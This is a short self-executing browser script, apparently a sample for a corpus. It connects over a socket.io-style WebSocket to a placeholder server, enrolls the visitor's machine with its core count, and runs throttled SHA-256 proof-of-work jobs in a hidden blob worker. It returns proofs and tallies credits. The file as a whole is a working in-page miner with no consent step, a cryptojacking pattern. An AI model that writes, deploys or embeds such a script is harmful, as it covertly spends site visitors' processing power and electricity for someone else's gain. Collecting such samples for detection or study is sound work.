/* Own design (corpus): socket.io framing (Engine.IO 4) with our own events, enroll / lease /
   proof / credit, every payload a hex-encoded JSON document. Hashing in a blob: worker. */
(function () {
  var NODE = "node-a8", BASE = "%%WS:own-sio%%/rt/?EIO=4&transport=websocket";
  function hexOf(obj) { var b = new TextEncoder().encode(JSON.stringify(obj)), s = ""; for (var i = 0; i < b.length; i++) s += (b[i] < 16 ? "0" : "") + b[i].toString(16); return s; }
  function ofHex(h) { var b = new Uint8Array(h.length / 2); for (var i = 0; i < b.length; i++) b[i] = parseInt(h.substr(2 * i, 2), 16); return JSON.parse(new TextDecoder().decode(b)); }

  var code = "(" + function () {
    /*#include sha256.js*/
    var lease = null, seed = null, bits = 32, nonce = 0, buf = null, on = false;
    function lz(d) { for (var i = 0, n = 0; i < d.length; i++) { if (d[i]) return n + Math.clz32(d[i]) - 24; n += 8; } return n; }
    onmessage = function (e) {
      lease = e.data.l; seed = fromHex(e.data.s); bits = e.data.b;
      buf = new Uint8Array(seed.length + 4); buf.set(seed);
      nonce = (Math.random() * 4294967295) >>> 0;
      if (!on) { on = true; step(); }
    };
    function step() {
      var t = Date.now(), L = buf.length;
      while (Date.now() - t < 90) {
        nonce = (nonce + 1) >>> 0;
        buf[L - 4] = nonce >>> 24; buf[L - 3] = (nonce >>> 16) & 255; buf[L - 2] = (nonce >>> 8) & 255; buf[L - 1] = nonce & 255;
        var d = sha256(buf);
        if (lz(d) >= bits) postMessage({ l: lease, x: nonce, d: toHex(d) });
      }
      setTimeout(step, 30);
    }
  }.toString() + ")()";
  var worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));

  var ws = new WebSocket(BASE);
  function emit(ev, data) { if (ws.readyState === 1) ws.send("42" + JSON.stringify([ev, data])); }
  worker.onmessage = function (e) { emit("proof", hexOf(e.data)); };
  ws.onmessage = function (m) {
    var p = m.data;
    if (p[0] === "0") { ws.send("40"); }
    else if (p === "2") { ws.send("3"); }
    else if (p.slice(0, 2) === "40") { emit("enroll", { node: NODE, cores: navigator.hardwareConcurrency || 0 }); }
    else if (p.slice(0, 2) === "42") {
      var ev = JSON.parse(p.slice(2));
      if (ev[0] === "lease") worker.postMessage(ofHex(ev[1]));
      else if (ev[0] === "credit") { window.__credits = (window.__credits || 0) + 1; }
    }
  };
})();
